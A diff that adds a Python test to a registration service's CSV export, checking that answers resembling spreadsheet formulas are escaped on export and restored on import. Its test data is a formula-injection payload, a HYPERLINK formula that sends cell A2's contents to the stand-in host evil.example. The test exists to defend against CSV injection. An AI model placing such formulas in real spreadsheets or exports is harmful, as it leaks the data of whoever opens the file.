@@ -378,3 +378,13 @@ def test_an_imported_person_finds_their_registration_confirmed_in_the_conversati
     summary = said(services.intake.start(person, "managersruil"))
     assert "Ministerie: Financiën (FIN)" in summary
     assert "Wijzig je antwoorden" in summary  # and it can be changed like any other
+
+
+def test_an_answer_that_looks_like_a_formula_is_exported_inert_and_imported_as_typed() -> None:
+    formula = '=HYPERLINK("https://evil.example/?"&A2,"klik")'
+    [typed_in] = read_csv(as_csv([manager()]), MANAGERSRUIL, TODAY)
+    row = Row(typed_in.slack_user, {**typed_in.answers, "function": formula})
+    written = write_csv(MANAGERSRUIL, [row])
+    assert "'=HYPERLINK" in written  # Excel shows it as text instead of running it
+    [back] = read_csv(written, MANAGERSRUIL, TODAY)
+    assert back.answers["function"] == formula
